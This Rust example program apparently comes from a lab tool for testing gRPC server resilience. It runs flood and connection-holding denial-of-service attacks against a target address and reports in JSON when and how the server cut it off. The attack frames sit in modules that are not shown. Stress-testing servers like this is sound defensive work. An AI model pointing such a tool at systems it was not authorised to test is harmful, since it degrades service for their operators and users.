//! A client that means harm, of one kind: what it may do before it is cut, and what the server pays for it.
//!
//! ```text
//! cargo run --release -p thalweg-lab --example attack -- 127.0.0.1:50051 ping --for 10s
//! ```
//!
//! The server must offer `grpc.testing.BenchmarkService`. Says `attacking` when it is at work, and prints a line of
//! JSON when it is over: what was sent, and when and how the server put an end to it.

mod classes;
mod frames;
mod wire;

use std::error::Error;
use std::time::{Duration, Instant};

use clap::Parser;
use serde_json::json;

use classes::{Class, Work};
use wire::{End, Wire};

/// Attacks a gRPC server in one way
#[derive(Debug, Parser)]
struct Args {
    /// HOST:PORT of a server that offers `grpc.testing.BenchmarkService`
    target: String,
    /// In which way
    #[arg(value_enum)]
    class: Class,
    /// For how long, if the server does not put an end to it
    #[arg(long = "for", default_value = "10s", value_parser = humantime::parse_duration)]
    duration: Duration,
    /// How many connections hold something, in the classes that hold
    #[arg(long, default_value_t = 1)]
    connections: usize,
}

fn main() -> Result<(), Box<dyn Error>> {
    let args = Args::parse();
    let began = Instant::now();
    let until = began + args.duration;
    let outcome = match args.class.work() {
        Work::Flood { settings, acks, first, round } => {
            let mut wire = Wire::connect(&args.target, settings, acks)?;
            println!("attacking");
            wire.send(first);
            for number in 0.. {
                if Instant::now() >= until || !wire.send(|frames| round(frames, number)) {
                    break;
                }
            }
            Outcome::of(&[wire], began)
        }
        Work::Hold { settings, reads, first, drip } => {
            let mut wires = Vec::new();
            for _ in 0..args.connections {
                // A server that takes no more of them has put an end to it, too.
                let Ok(mut wire) = Wire::connect(&args.target, settings, true) else { break };
                if !reads {
                    wire.stop_reading();
                }
                wire.send(|frames| {
                    first(frames);
                    frames.is_urgent = true;
                });
                wires.push(wire);
            }
            println!("attacking");
            while Instant::now() < until && wires.iter().any(|wire| wire.end().is_none()) {
                std::thread::sleep(Duration::from_millis(100));
                for wire in &mut wires {
                    wire.send(drip);
                }
            }
            Outcome::of(&wires, began)
        }
    };
    println!("{}", outcome.json(&args));
    Ok(())
}

/// What came of it.
struct Outcome {
    connections: usize,
    sent_bytes: u64,
    sent_frames: u64,
    /// The first connection that was ended: when, and how.
    first_end: Option<(Duration, String)>,
    ended: usize,
    lasted: Duration,
}

impl Outcome {
    fn of(wires: &[Wire], began: Instant) -> Self {
        // What the server says last may still be on its way.
        std::thread::sleep(Duration::from_millis(200));
        let lasted = began.elapsed();
        let ends: Vec<End> = wires.iter().filter_map(Wire::end).collect();
        let first = ends.iter().min_by_key(|end| end.at);
        Self {
            connections: wires.len(),
            sent_bytes: wires.iter().map(|wire| wire.sent_bytes).sum(),
            sent_frames: wires.iter().map(|wire| wire.sent_frames).sum(),
            first_end: first.map(|end| (end.at.saturating_duration_since(began), end.how.clone())),
            ended: ends.len(),
            lasted,
        }
    }

    fn json(&self, args: &Args) -> serde_json::Value {
        json!({
            "class": format!("{:?}", args.class),
            "connections": self.connections,
            "sent_bytes": self.sent_bytes,
            "sent_frames": self.sent_frames,
            "ended_connections": self.ended,
            "cut_after_ms": self.first_end.as_ref().map(|(after, _)| after.as_millis()),
            "cut_by": self.first_end.as_ref().map(|(_, how)| how),
            "lasted_ms": self.lasted.as_millis(),
        })
    }
}
